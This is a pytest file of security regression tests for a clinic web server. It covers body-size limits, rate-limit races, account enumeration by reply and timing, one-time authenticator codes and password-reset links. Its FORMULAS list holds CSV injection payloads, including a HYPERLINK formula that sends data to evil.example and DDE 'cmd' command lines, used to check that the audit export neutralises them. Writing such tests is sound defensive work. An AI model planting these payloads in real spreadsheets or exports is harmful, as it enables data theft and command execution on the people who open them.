"""Attacks on the clinic server from issue 24, each failing before its fix: a forged cookie that
raised the body limit, formulas in the audit CSV, sign-in limits raced by a burst of attempts,
addresses told apart by the reply or its timing, an authenticator code used twice, and an older
password-reset link that still worked after a newer one."""

from __future__ import annotations

import csv
import io
import json
import re
import statistics
import threading
import time
from collections import Counter
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from datetime import timedelta
from urllib.parse import parse_qs, urlsplit

import pytest
from fastapi.testclient import TestClient

from tests.clinic.conftest import BASE, PASSWORD, World, form_token, sign_in


def _json_of(size: int) -> bytes:
    """A JSON body of about `size` bytes (a check-in with a long note)."""
    return json.dumps({"pain": 2, "numbness": 3, "note": "x" * size}).encode()


def test_a_forged_cookie_gets_the_anonymous_body_limit(client: TestClient, world: World) -> None:
    big = _json_of(100 << 10)
    headers = {"Content-Type": "application/json"}
    client.cookies.set("glutewake_clinic", "x")
    forged = client.post("/api/checkins", content=big, headers=headers)
    assert forged.status_code == 413, forged.text
    assert "16 kB" in forged.json()["detail"]

    def chunks() -> object:  # no Content-Length: the limit holds as the body streams in
        for _ in range(64):
            yield b" " * (8 << 10)

    streamed = client.post("/api/checkins", content=chunks(), headers=headers)  # type: ignore[arg-type]
    assert streamed.status_code == 413
    small = client.post("/api/checkins", content=_json_of(100), headers=headers)
    assert small.status_code == 401, "a small body reaches the route, which says to sign in"

    sign_in(client, world.store, world.pat)
    real = client.post("/api/checkins", content=big, headers=headers)
    assert real.status_code != 413, "a real session may send more than 16 kB"
    assert real.status_code < 500
    again = client.post("/api/checkins", content=big, headers=headers)
    assert again.status_code != 413
    huge = client.post("/api/data", content=b"[" + b"0," * (1 << 20) + b"0]", headers=headers)
    assert huge.status_code == 413, "the clinic has no import: 1 MB at most, even signed in"


def test_a_half_signed_in_or_ended_session_gets_the_anonymous_body_limit(
    client: TestClient, world: World
) -> None:
    from glutewake.identity import credentials

    half = credentials.new_token()
    world.store.start_session(credentials.digest(half), world.cleo.id, "second_factor", "test")
    client.cookies.set("glutewake_clinic", half)
    headers = {"Content-Type": "application/json"}
    assert client.post("/api/checkins", content=_json_of(100 << 10), headers=headers).status_code == 413
    sign_in(client, world.store, world.pat)
    cookie = client.cookies.get("glutewake_clinic")
    assert cookie
    world.store.end_session(world.pat.id, credentials.digest(cookie))
    assert client.post("/api/checkins", content=_json_of(100 << 10), headers=headers).status_code == 413


FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&B2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_every_cell_of_the_audit_csv_is_text_never_a_formula(client: TestClient, world: World) -> None:
    for n, name in enumerate(FORMULAS):
        patient = world.store.add_account(
            world.cleo.clinic_id, "patient", name, birth_year=1980, clinicians=(world.cleo.id,)
        )
        sign_in(client, world.store, world.cleo)
        assert client.get(f"/staff/patients/{patient.id}").status_code == 200, n
    sign_in(client, world.store, world.admin)
    exported = client.get("/admin/audit.csv")
    assert exported.status_code == 200
    table = list(csv.reader(io.StringIO(exported.text, newline="")))
    cells = [cell for row in table[1:] for cell in row if cell]
    assert len(cells) > 4 * len(FORMULAS)  # the patient's name is in the row of each read
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    for name in FORMULAS:
        assert f"'{name}" in cells, f"kept whole, behind a quote: {name!r}"


def _burst(count: int, attempt: Callable[[], object]) -> Counter[str]:
    """`count` threads make `attempt` at the same moment; how each ended, by exception name."""
    start = threading.Barrier(count)

    def one() -> str:
        start.wait()
        try:
            attempt()
        except Exception as error:
            return type(error).__name__
        return "signed in"

    with ThreadPoolExecutor(count) as pool:
        return Counter(pool.map(lambda _: one(), range(count)))


def test_a_burst_of_wrong_passwords_checks_no_more_than_the_limit(world: World) -> None:
    from glutewake.app.clinic import signin

    ended = _burst(
        12,
        lambda: signin.sign_in_with_password(
            world.clinic, "cleo@riverside.example", "not the password", "198.51.100.7", "burst"
        ),
    )
    print(f"12 simultaneous wrong passwords: {dict(ended)}")
    assert ended["SignInRefused"] <= signin.ACCOUNT_LIMIT, ended  # checked (argon2 ran)
    assert ended["SignInRefused"] + ended["TooManyAttempts"] == 12, ended
    assert world.store.attempts("account:cleo@riverside.example", signin.WINDOW) == ended["SignInRefused"]
    refused = signin.sign_in_with_password
    with pytest.raises(signin.TooManyAttempts):
        refused(world.clinic, "cleo@riverside.example", PASSWORD, "203.0.113.1", "later")


def test_a_burst_of_wrong_authenticator_codes_checks_no_more_than_the_limit(world: World) -> None:
    import pyotp

    from glutewake.app.clinic import signin
    from glutewake.identity import credentials

    secret = pyotp.random_base32()
    world.store.update_account(world.cleo.id, totp_secret=secret)
    half = credentials.new_token()
    world.store.start_session(credentials.digest(half), world.cleo.id, "second_factor", "burst")
    who = signin.identify(world.clinic, half)
    assert who is not None
    now = world.clock.now().timestamp()
    right = {pyotp.TOTP(secret).at(now + 30 * n) for n in (-1, 0, 1)}
    wrong = next(f"{n:06d}" for n in range(10) if f"{n:06d}" not in right)
    ended = _burst(60, lambda: signin.give_second_factor(world.clinic, who, wrong, "198.51.100.8", now))
    print(f"60 simultaneous wrong codes: {dict(ended)}")
    assert ended["SignInRefused"] <= signin.ACCOUNT_LIMIT, ended
    assert ended["SignInRefused"] + ended["TooManyAttempts"] == 60, ended


def test_an_authenticator_code_works_once(world: World) -> None:
    import pyotp

    from glutewake.app.clinic import signin
    from glutewake.identity import credentials

    secret = pyotp.random_base32()
    world.store.update_account(world.cleo.id, totp_secret=secret)
    now = world.clock.now().timestamp()

    def second_factor(code: str, at: float = now) -> signin.NewSession:
        half = credentials.new_token()
        world.store.start_session(credentials.digest(half), world.cleo.id, "second_factor", "test")
        who = signin.identify(world.clinic, half)
        assert who is not None
        return signin.give_second_factor(world.clinic, who, code, "198.51.100.9", at)

    code = pyotp.TOTP(secret).at(now)
    assert second_factor(code).stage == "full"
    with pytest.raises(signin.SignInRefused, match="used already"):
        second_factor(code)  # seen over a shoulder, or replayed within its 90 seconds
    with pytest.raises(signin.SignInRefused, match="used already"):
        second_factor(pyotp.TOTP(secret).at(now - 30))  # an older one after it: no more either
    assert second_factor(pyotp.TOTP(secret).at(now + 30)).stage == "full", "the next code works"
    later = now + 90
    together = _burst(8, lambda: second_factor(pyotp.TOTP(secret).at(later), later))
    assert together["signed in"] == 1, together  # the same code sent 8 times at once


def _path(link: str) -> str:
    parts = urlsplit(link)
    return f"{parts.path}?{parts.query}"


def test_a_new_password_ends_every_older_reset_link(client: TestClient, world: World) -> None:
    client.post("/signin/reset", data={"email": "cleo@riverside.example"})
    older = parse_qs(urlsplit(world.outbox.link("cleo@riverside.example")).query)["token"][0]
    client.post("/signin/reset", data={"email": "cleo@riverside.example"})
    newer = parse_qs(urlsplit(world.outbox.link("cleo@riverside.example")).query)["token"][0]
    assert older != newer
    done = client.post("/signin/reset", data={"token": newer, "password": "a brand new password"})
    assert done.headers["location"] == "/signin/staff?reset=1"
    late = client.post("/signin/reset", data={"token": older, "password": "the attacker's password"})
    assert late.status_code == 401
    assert "used or has expired" in late.text
    signed = client.post(
        "/signin/staff", data={"email": "cleo@riverside.example", "password": "a brand new password"}
    )
    assert signed.status_code == 303
    client.cookies.clear()
    other = client.post(
        "/signin/staff", data={"email": "cleo@riverside.example", "password": "the attacker's password"}
    )
    assert other.status_code == 401


def test_two_reset_links_used_at_once_set_one_password(world: World) -> None:
    from glutewake.app.clinic import signin

    tokens = []
    for _ in range(6):
        signin.request_reset(world.clinic, "cleo@riverside.example", "198.51.100.10")
        tokens.append(parse_qs(urlsplit(world.outbox.link("cleo@riverside.example")).query)["token"][0])
        world.clock.wall += timedelta(minutes=3)  # within the hour, past the request limit's window
    world.clock.wall += timedelta(minutes=1)
    queue = iter(tokens)
    lock = threading.Lock()

    def use() -> None:
        with lock:
            token = next(queue)
        signin.reset_password(world.clinic, token, f"a new password {token[:6]}")

    ended = _burst(len(tokens), use)
    assert ended == Counter({"signed in": 1, "SignInRefused": len(tokens) - 1}), ended


def test_adding_a_patient_whose_address_another_clinic_uses_says_and_does_the_same(
    client: TestClient, world: World
) -> None:
    sign_in(client, world.store, world.cleo)

    def add(name: str, email: str) -> str:
        added = client.post(
            "/staff/patients",
            data={
                "name": name,
                "birth_year": "1975",
                "email": email,
                "csrf_token": form_token(client, "/staff"),
            },
        )
        assert added.status_code == 200, added.text[:2000]
        page = re.sub(r"<code>[A-Z0-9-]+</code>", "<code>CODE</code>", added.text.replace(email, "EMAIL"))
        return re.sub(r"/staff/patients/[0-9]+", "/staff/patients/N", page).replace(name, "NAME")

    elsewhere = add("Bob Again", "bob@example.org")  # clinic B's patient
    nowhere = add("Nia New", "nia@example.org")
    assert elsewhere == nowhere
    assert "A sign-in link is on its way to EMAIL" in elsewhere
    assert [e.to for e in world.outbox.sent] == ["bob@example.org", "nia@example.org"]
    assert [e.subject for e in world.outbox.sent] == ["Your exercise programme at Riverside Physio"] * 2
    link = world.outbox.link("bob@example.org")
    sign_in(client, world.store, None)
    token = parse_qs(urlsplit(link).query)["token"][0]
    assert client.post("/signin", data={"token": token}).headers["location"] == "/"
    assert "Bob Again" in client.get("/account").text, "the invitation signs in to the new account"
    assert world.store.account_by_email("bob@example.org") == world.store.account(world.bob.id)

    sign_in(client, world.store, world.cleo)
    same_clinic = client.post(
        "/staff/patients",
        data={
            "name": "Peg",
            "birth_year": "1975",
            "email": "peg@example.org",
            "csrf_token": form_token(client, "/staff"),
        },
    )
    assert same_clinic.status_code == 422
    assert "already has an account at this clinic" in same_clinic.text


def _median_ms(values: list[float]) -> float:
    return statistics.median(values) * 1000


def test_asking_for_a_link_takes_as_long_for_an_address_with_no_account(
    clinic_db: str, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Through the real queue (the outbox the server uses), as the attack timed it.

    The suite runs on every core at once, so another test's burst of work can land on a few of
    one kind's requests: the timing is taken again (up to three rounds) before a difference counts.
    A real difference shows in every round."""
    from glutewake.app.region import REGION_ENV
    from glutewake.runtime.jobs import apply_schema
    from glutewake.web.clinic import create_clinic_app

    monkeypatch.setenv(REGION_ENV, "uk")
    apply_schema(clinic_db)
    app = create_clinic_app(clinic_db, BASE, clock=world.clock)
    rounds: list[dict[str, float]] = []
    with TestClient(app, base_url=BASE.rstrip("/"), follow_redirects=False) as client:
        for attempt in range(3):
            times: dict[str, list[float]] = {"patient": [], "staff": [], "none": []}
            for n in range(18):
                asked = [
                    ("patient", "pat@example.org"),
                    ("staff", "cleo@riverside.example"),
                    ("none", f"nobody{attempt}-{n}@example.org"),
                ]
                for kind, email in asked[n % 3 :] + asked[: n % 3]:
                    world.clock.wall += timedelta(minutes=16)  # past every limit's window
                    start = time.perf_counter()
                    reply = client.post("/signin", data={"email": email})
                    took = time.perf_counter() - start
                    assert reply.status_code == 200
                    if n >= 3:
                        times[kind].append(took)
            medians = {kind: _median_ms(values) for kind, values in times.items()}
            print(f"link requests, median ms of 15: {medians}")
            rounds.append(medians)
            slow, fast = max(medians.values()), min(medians.values())
            if slow - fast < 15 or slow / fast < 1.5:
                break
    app.state.engine.dispose()
    slow, fast = max(rounds[-1].values()), min(rounds[-1].values())
    assert slow - fast < 15 or slow / fast < 1.5, rounds


def test_asking_for_a_link_does_the_same_work_for_any_address(world: World) -> None:
    """What takes the time (writes to the database, emails through the queue) is the same
    whether the address has an account or not: the timing above has nothing to tell apart."""
    from sqlalchemy import event

    from glutewake.app.clinic import signin

    writes: list[str] = []

    def note(connection: object, cursor: object, statement: str, *rest: object) -> None:
        if statement.lstrip().split(" ", 1)[0].upper() in ("INSERT", "UPDATE", "DELETE"):
            writes.append(statement)

    def work(ask: Callable[[str], None], email: str) -> tuple[int, int]:
        """How many writes, and how many emails, asking for `email` made."""
        writes.clear()
        sent = len(world.outbox.sent)
        world.clock.wall += timedelta(minutes=16)
        ask(email)
        return len(writes), len(world.outbox.sent) - sent

    event.listen(world.store.engine, "before_cursor_execute", note)
    try:

        def link(email: str) -> None:
            signin.request_link(world.clinic, email, "198.51.100.11")

        def reset(email: str) -> None:
            signin.request_reset(world.clinic, email, "198.51.100.11")

        assert work(link, "pat@example.org") == work(link, "stranger@example.org") == (2, 1)
        assert work(link, "cleo@riverside.example") == (2, 1), "staff have no links: told so"
        assert work(reset, "cleo@riverside.example") == work(reset, "stranger@example.org") == (2, 1)
    finally:
        event.remove(world.store.engine, "before_cursor_execute", note)
